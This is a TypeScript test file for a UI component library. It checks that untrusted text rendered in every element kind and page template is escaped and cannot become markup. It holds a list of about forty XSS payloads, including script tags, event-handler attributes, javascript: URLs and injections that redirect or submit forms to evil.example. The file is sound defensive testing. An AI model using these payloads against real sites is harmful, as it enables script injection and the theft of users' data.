import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { ElementData } from '../context/run-context.ts'
import { documentEnd, documentStart, plainPage } from '../html/document.ts'
import { readMarkup } from '../html/test-markup.ts'
import { error, info, success, warning } from './alert.ts'
import { button } from './button.ts'
import { checkbox } from './checkbox.ts'
import type { ConnectButtonData } from './connect-button.ts'
import { dataGrid } from './data-grid.ts'
import { downloadButton } from './download-button.ts'
import { folderButton } from './folder-button.ts'
import { heading } from './heading.ts'
import { image } from './image.ts'
import { elementKinds, renderElement } from './kinds.ts'
import { link } from './link.ts'
import { linkListButton } from './link-list-button.ts'
import { markdown } from './markdown.ts'
import { numberInput } from './number-input.ts'
import { progress } from './progress.ts'
import type { ScriptErrorData } from './script-error.ts'
import { select } from './select.ts'
import { spinner } from './spinner.ts'
import { testRun } from './test-run.ts'
import { textInput } from './text-input.ts'
import { text } from './text.ts'
import { widgetId } from './widget-id.ts'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '` onmouseover=alert(1) `',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '</td></tr></table><script>alert(1)</script>',
  '</label></form><form action=https://evil.example><button name=tl-press>',
  '<input name=tl-token value=x>',
  '<button form=tl-form name=tl-stop value=1>Stop',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<link rel=stylesheet href=https://evil.example>',
  '<style>@import url(https://evil.example)</style>',
  '<details open ontoggle=alert(1)>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u202E<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<a\u2028href=javascript:alert(1)>x',
  '{{alert(1)}} #{alert(1)} <%= alert(1) %>',
  '<x id=tl-view class=tl-element data-tl-native>',
]

/** Shows every kind with a text from outside in every place that takes one. */
function showAll(words: string): string {
  const sent = {
    [widgetId({ kind: 'text-input', label: words })]: [words],
    [widgetId({ kind: 'number-input', label: words })]: [words],
    [widgetId({ kind: 'select', label: words })]: [words],
    [widgetId({ kind: 'data-grid', label: words, key: words })]: ['', words],
  }
  const run = testRun(
    () => {
      heading(words)
      text(words)
      image('/a.png', { alt: words })
      button(words)
      button(words, { key: `${words}2`, disabled: true })
      link(words, '/a')
      checkbox(words)
      textInput(words, { placeholder: words, value: words })
      numberInput(words)
      select(words, [words, { value: 'b', label: words }] as string[])
      dataGrid(
        [
          { id: words, a: words },
          { id: 'b', a: [words] },
        ],
        {
          key: words,
          select: 'many',
          rowKey: 'id',
          columns: { a: words, id: { label: words, format: () => words } },
        },
      )
      dataGrid([{ id: words, a: words }], { key: `${words}3`, label: 'a', columns: { id: words } })
      info(words)
      success(words)
      warning(words)
      error(words)
      progress(0.5, { text: words })
      void spinner(words, () => new Promise<never>(() => {}))
      downloadButton(words, { file: words, from: () => assert.fail() })
      folderButton(words, { files: () => assert.fail() })
      linkListButton(words, { format: 'curl', file: words, files: () => assert.fail() })
    },
    { sent, going: { file: words, text: words, failures: [{ title: words, reason: words }] } },
  )
  const connect: ConnectButtonData = {
    kind: 'connect-button',
    label: words,
    title: words,
    message: words,
    tone: 'warning',
    open: 'new-tab',
    primary: true,
  }
  const forPerson: ScriptErrorData = { kind: 'script-error', message: words, id: words }
  const forAuthor: ScriptErrorData = { ...forPerson, code: words, place: words, excerpt: [words] }
  const made: readonly ElementData[] = [connect, forPerson, forAuthor]
  return run.html + made.map((element) => renderElement(element, words)).join('')
}

/** Shows every document with a text from outside in every place that takes one. */
function showDocuments(words: string): string {
  const start = documentStart({
    title: words,
    lang: words,
    stylesheet: '/-/asset/a.css',
    program: '/-/asset/a.js',
    nonce: 'n',
    action: words,
    tab: words,
    run: 1,
    number: 1,
    token: words,
    news: 0,
    development: false,
  })
  const plain = plainPage({
    title: words,
    lang: 'en',
    stylesheet: '/-/asset/a.css',
    heading: words,
    paragraphs: [words],
    action: { label: words, href: `/a?${words}` },
    refresh: { url: `https://example.org/?${words}`, seconds: 0 },
    id: words,
  })
  return `${start}${documentEnd({ hasInputs: true, notice: words })}${plain}`
}

describe('output injection', () => {
  test('XS-01 no kind of element lets a text become an element or an attribute', () => {
    const { skeleton } = readMarkup(showAll('harmless'))

    for (const payload of PAYLOADS)
      assert.deepEqual(readMarkup(showAll(payload)).skeleton, skeleton, payload)
  })

  test('XS-01 no document lets a text become an element or an attribute (CVE-2023-27494)', () => {
    const { skeleton } = readMarkup(showDocuments('harmless'))

    for (const payload of PAYLOADS) {
      assert.deepEqual(readMarkup(showDocuments(payload)).skeleton, skeleton, payload)
    }
  })

  test('XS-01 a text from outside is shown as it is', () => {
    for (const payload of PAYLOADS)
      assert.ok(readMarkup(showAll(payload)).text.includes(payload), payload)
  })

  test('XS-01 every kind but Markdown, which has its own list, is shown above', () => {
    const shown = readMarkup(showAll('harmless')).tags.flatMap(({ attributes }) =>
      (attributes.get('class') ?? '').split(' '),
    )

    for (const { kind } of elementKinds) {
      if (kind !== 'markdown') assert.ok(shown.includes(`tl-${kind}`), kind)
    }
  })

  test('XS-02 Markdown lets no text become an element or an attribute that it has no business with', () => {
    const allowedTags =
      /^(div|p|a|em|code|strong|h[1-6]|ul|ol|li|blockquote|pre|hr|br|s|table|thead|tbody|tr|th|td)$/
    const allowedAttributes = /^(id|class|href|rel|start|data-tl-inside)$/

    for (const payload of PAYLOADS) {
      for (const source of [
        payload,
        `[${payload}](https://example.org)`,
        `- ${payload}`,
        `\`${payload}\``,
      ]) {
        for (const { name, attributes } of readMarkup(testRun(() => markdown(source)).html).tags) {
          assert.match(name, allowedTags, source)
          for (const attribute of attributes.keys())
            assert.match(attribute, allowedAttributes, source)
        }
      }
    }
  })

  test('no element holds an inline style or script', () => {
    for (const { name, attributes } of readMarkup(showAll('harmless')).tags) {
      assert.notEqual(name, 'script')
      assert.notEqual(name, 'style')
      for (const attribute of attributes.keys()) assert.doesNotMatch(attribute, /^(style|on.*)$/)
    }
  })
})
